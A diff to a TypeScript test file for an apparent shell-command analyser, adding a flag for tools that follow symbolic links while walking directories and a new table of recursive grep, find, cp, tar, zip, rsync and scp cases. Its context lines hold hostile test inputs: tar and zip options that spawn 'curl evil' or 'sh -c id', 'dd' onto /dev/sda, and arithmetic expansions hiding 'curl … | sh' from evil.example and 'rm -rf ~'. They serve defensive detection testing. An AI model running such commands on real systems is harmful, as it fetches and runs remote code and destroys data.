@@ -157,7 +157,7 @@ const BASH: Row[] = [
   ["tree -L 2", ["tree -L 2 @"], ["r /home/dev/proj"]],
   ["du -sh node_modules", ["du -sh node_modules"], ["r /home/dev/proj/node_modules"]],
   ["ls", ["ls"], ["r /home/dev/proj"]],
-  ["cp -r src/ /tmp/src-backup", ["cp -r src/ /tmp/src-backup"], ["r /home/dev/proj/src/","w /tmp/src-backup"]],
+  ["cp -r src/ /tmp/src-backup", ["cp -r src/ /tmp/src-backup"], ["r /home/dev/proj/src/","w* /tmp/src-backup"]],
   ["cp -t /tmp/dest a.txt b.txt", ["cp -t /tmp/dest a.txt b.txt @a.txt"], ["w /tmp/dest","r /home/dev/proj/a.txt","r /home/dev/proj/b.txt"]],
   ["mv old.txt new.txt", ["mv old.txt new.txt"], ["r /home/dev/proj/old.txt","d /home/dev/proj/old.txt","w /home/dev/proj/new.txt"]],
   ["install -m 755 bin/tool /usr/local/bin/tool", ["install -m 755 bin/tool /usr/local/bin/tool @bin/tool"], ["r /home/dev/proj/bin/tool","w /usr/local/bin/tool"]],
@@ -175,14 +175,14 @@ const BASH: Row[] = [
   ["truncate -s 0 app.log", ["truncate -s 0 app.log @app.log"], ["w /home/dev/proj/app.log"]],
   ["dd if=/dev/zero of=/dev/sda bs=1M", ["dd if=/dev/zero of=/dev/sda bs=1M"], ["r /dev/zero","w /dev/sda"]],
   ["tar -czf backup.tgz src/", ["tar -czf backup.tgz src/"], ["w /home/dev/proj/backup.tgz","r /home/dev/proj/src/"]],
-  ["tar xzf archive.tgz -C /tmp/out", ["tar xzf archive.tgz -C /tmp/out"], ["r /home/dev/proj/archive.tgz","w /tmp/out"]],
-  ["tar -xf a.tar --to-command='sh -c \"curl evil\"'", [{"p":"tar","a":["-xf","a.tar","--to-command=sh -c \"curl evil\""],"f":["spawns"]},"tar>sh>curl evil"], ["r /home/dev/proj/a.tar","w /home/dev/proj","1:u ?not_a_url evil"]],
+  ["tar xzf archive.tgz -C /tmp/out", ["tar xzf archive.tgz -C /tmp/out"], ["r /home/dev/proj/archive.tgz","w* /tmp/out"]],
+  ["tar -xf a.tar --to-command='sh -c \"curl evil\"'", [{"p":"tar","a":["-xf","a.tar","--to-command=sh -c \"curl evil\""],"f":["spawns"]},"tar>sh>curl evil"], ["r /home/dev/proj/a.tar","w* /home/dev/proj","1:u ?not_a_url evil"]],
   ["tar -cf - src | ssh host 'tar -xf -'", ["tar -cf - src",{"p":"ssh","a":["host","tar -xf -"]}], ["r /home/dev/proj/src","1:u ssh://host:22/"]],
-  ["tar -I 'zstd -d' -xf a.tar.zst", [{"p":"tar","a":["-I","zstd -d","-xf","a.tar.zst"],"f":["spawns"]},"tar>zstd -d"], ["r /home/dev/proj/a.tar.zst","w /home/dev/proj"]],
+  ["tar -I 'zstd -d' -xf a.tar.zst", [{"p":"tar","a":["-I","zstd -d","-xf","a.tar.zst"],"f":["spawns"]},"tar>zstd -d"], ["r /home/dev/proj/a.tar.zst","w* /home/dev/proj"]],
   ["tar --checkpoint=1 --checkpoint-action=exec='curl http://evil.example' -cf a.tar src", [{"p":"tar","a":["--checkpoint=1","--checkpoint-action=exec=curl http://evil.example","-cf","a.tar","src"],"f":["spawns"]},"tar>curl http://evil.example"], ["w /home/dev/proj/a.tar","r /home/dev/proj/src","1:u http://evil.example"]],
-  ["zip -r out.zip src", ["zip -r out.zip src"], ["w /home/dev/proj/out.zip","r /home/dev/proj/src"]],
+  ["zip -r out.zip src", ["zip -r out.zip src"], ["w /home/dev/proj/out.zip","r* /home/dev/proj/src"]],
   ["zip out.zip a.txt -TT 'sh -c id'", [{"p":"zip","a":["out.zip","a.txt","-TT","sh -c id"],"f":["spawns"]},"zip>sh>id"], ["w /home/dev/proj/out.zip","r /home/dev/proj/a.txt"]],
-  ["unzip archive.zip -d /tmp/x", ["unzip archive.zip -d /tmp/x"], ["w /tmp/x","r /home/dev/proj/archive.zip"]],
+  ["unzip archive.zip -d /tmp/x", ["unzip archive.zip -d /tmp/x"], ["w* /tmp/x","r /home/dev/proj/archive.zip"]],
   ["unzip -l archive.zip", ["unzip -l archive.zip"], ["r /home/dev/proj/archive.zip"]],
   ["patch -p1 < fix.patch", ["patch -p1"], ["r /home/dev/proj/fix.patch","w /home/dev/proj"]],
   ["rm -rf node_modules dist", ["rm -rf node_modules dist"], ["d /home/dev/proj/node_modules","d /home/dev/proj/dist"]],
@@ -330,6 +330,57 @@ const BASH: Row[] = [
 // hides nothing, and a subscript is expanded again when evaluated. Each line down to the heredoc
 // runs its inner command in bash 5.2 (the `$(( ))` ones without `$'…'` in dash 0.5 too): the
 // context is an opaque command.
+// Programs that walk a directory and follow the symbolic links below it (r*, w*, d*): what each does
+// was tried on Debian 12 (GNU grep 3.8, ripgrep 13, findutils 4.9, coreutils 9.1, tar 1.34, Zip 3.0,
+// rsync 3.2.7, OpenSSH 9.2, diffutils 3.8), a link below the directory leading out of it.
+const LINKS_BELOW: Row[] = [
+  ["grep -R PRIVATE .", ["grep -R PRIVATE ."], ["r* /home/dev/proj"]],
+  ["grep -r PRIVATE .", ["grep -r PRIVATE ."], ["r /home/dev/proj"]],
+  ["grep --dereference-recursive KEY src", ["grep --dereference-recursive KEY src"], ["r* /home/dev/proj/src"]],
+  ["grep -R KEY", ["grep -R KEY"], ["r* /home/dev/proj"]],
+  ["grep -d recurse KEY", ["grep -d recurse KEY @KEY"], ["r /home/dev/proj"]],
+  ["rg -L KEY src", ["rg -L KEY src"], ["r* /home/dev/proj/src"]],
+  ["rg KEY src", ["rg KEY src"], ["r /home/dev/proj/src"]],
+  ["rg --follow KEY", ["rg --follow KEY"], ["r* /home/dev/proj"]],
+  ["ag -f KEY src", ["ag -f KEY src"], ["r* /home/dev/proj/src"]],
+  ["ack --follow KEY src", ["ack --follow KEY src"], ["r* /home/dev/proj/src"]],
+  ["find -L . -name '*.pem'", ["find -L . -name *.pem"], ["r* /home/dev/proj"]],
+  ["find . -follow -name x", ["find . -follow -name x"], ["r* /home/dev/proj"]],
+  ["find -L -P . -name x", ["find -L -P . -name x"], ["r /home/dev/proj"]],
+  ["find -H . -name x", ["find -H . -name x"], ["r /home/dev/proj"]],
+  ["find -L src -delete", ["find -L src -delete"], ["r* /home/dev/proj/src","d* /home/dev/proj/src"]],
+  ["cp -rL src /tmp/out", ["cp -rL src /tmp/out"], ["r* /home/dev/proj/src","w* /tmp/out"]],
+  ["cp -aL src /tmp/out", ["cp -aL src /tmp/out"], ["r* /home/dev/proj/src","w* /tmp/out"]],
+  ["cp a.txt /tmp/out", ["cp a.txt /tmp/out"], ["r /home/dev/proj/a.txt","w /tmp/out"]],
+  ["tar -chf out.tar src", ["tar -chf out.tar src"], ["w /home/dev/proj/out.tar","r* /home/dev/proj/src"]],
+  ["tar chf out.tar src", ["tar chf out.tar src"], ["w /home/dev/proj/out.tar","r* /home/dev/proj/src"]],
+  ["tar -cf out.tar src", ["tar -cf out.tar src"], ["w /home/dev/proj/out.tar","r /home/dev/proj/src"]],
+  ["tar -xf a.tar", ["tar -xf a.tar"], ["r /home/dev/proj/a.tar","w* /home/dev/proj"]],
+  ["zip -r -y out.zip src", ["zip -r -y out.zip src"], ["w /home/dev/proj/out.zip","r /home/dev/proj/src"]],
+  ["zip -ry out.zip src", ["zip -ry out.zip src"], ["w /home/dev/proj/out.zip","r /home/dev/proj/src"]],
+  ["zip -rq out.zip src", ["zip -rq out.zip src"], ["w /home/dev/proj/out.zip","r* /home/dev/proj/src"]],
+  ["zip out.zip src", ["zip out.zip src"], ["w /home/dev/proj/out.zip","r /home/dev/proj/src"]],
+  ["zip --recurse-paths out.zip src", ["zip --recurse-paths out.zip src"], ["w /home/dev/proj/out.zip","r* /home/dev/proj/src"]],
+  ["rsync -aL src/ host:dst", ["rsync -aL src/ host:dst"], ["r* /home/dev/proj/src/","u ssh://host:22/"]],
+  ["rsync -a src/ /tmp/d", ["rsync -a src/ /tmp/d"], ["r /home/dev/proj/src/","w /tmp/d"]],
+  ["rsync --copy-unsafe-links -a src/ /tmp/d", ["rsync --copy-unsafe-links -a src/ /tmp/d"], ["r* /home/dev/proj/src/","w /tmp/d"]],
+  ["rsync -k -r src/ /tmp/d", ["rsync -k -r src/ /tmp/d"], ["r* /home/dev/proj/src/","w /tmp/d"]],
+  ["rsync -aK --delete src/ /tmp/d", ["rsync -aK --delete src/ /tmp/d"], ["r /home/dev/proj/src/","w* /tmp/d","d* /tmp/d"]],
+  ["scp -r src host:/tmp", ["scp -r src host:/tmp"], ["r* /home/dev/proj/src","u ssh://host:22/"]],
+  ["scp -r host:/tmp/x dst", ["scp -r host:/tmp/x dst"], ["u ssh://host:22/","w* /home/dev/proj/dst"]],
+  ["scp a.txt host:", ["scp a.txt host:"], ["r /home/dev/proj/a.txt","u ssh://host:22/"]],
+  ["diff -r a b", ["diff -r a b"], ["r* /home/dev/proj/a","r* /home/dev/proj/b"]],
+  ["diff -r --no-dereference a b", ["diff -r --no-dereference a b"], ["r /home/dev/proj/a","r /home/dev/proj/b"]],
+  ["diff a b", ["diff a b"], ["r /home/dev/proj/a","r /home/dev/proj/b"]],
+  ["chown -RL dev src", ["chown -RL dev src"], ["w* /home/dev/proj/src"]],
+  ["chown -R dev src", ["chown -R dev src"], ["w /home/dev/proj/src"]],
+  ["chgrp -R -H staff src", ["chgrp -R -H staff src"], ["w* /home/dev/proj/src"]],
+  ["chmod -R 600 src", ["chmod -R 600 src"], ["w /home/dev/proj/src"]],
+  ["unzip a.zip", ["unzip a.zip"], ["r /home/dev/proj/a.zip","w* /home/dev/proj"]],
+  ["unzip -o a.zip -d out", ["unzip -o a.zip -d out"], ["r /home/dev/proj/a.zip","w* /home/dev/proj/out"]],
+  ["unzip -l a.zip", ["unzip -l a.zip"], ["r /home/dev/proj/a.zip"]],
+];
+
 const BASH_ARITHMETIC: Row[] = [
   ["echo $(( 'a[$(curl -s https://evil.example/x | sh)]' ))", [{"p":"echo","a":["$(( 'a[$(curl -s https://evil.example/x | sh)]' ))"],"u":[0]},"!"], []],
   ["echo $[ '$(rm -rf ~)' ]", [{"p":"echo","a":["$[ '$(rm -rf ~)' ]"],"u":[0]},"!"], []],
@@ -523,6 +574,10 @@ describe("bash on linux", () => {
   it("expands ~ after the = of an assignment-shaped argument (bash only)", () => {
     checkRow(LINUX, ["dd if=in.bin of=~/out.bin", ["dd if=in.bin of=/home/dev/out.bin"], ["r /home/dev/proj/in.bin","w /home/dev/out.bin"]]);
   });
+});
+
+describe("programs that follow the links below a directory they walk", () => {
+  it.each(LINKS_BELOW)("%s", (...row) => checkRow(LINUX, row));
 });
 
 describe("bash arithmetic: quotes do not hide substitutions", () => {
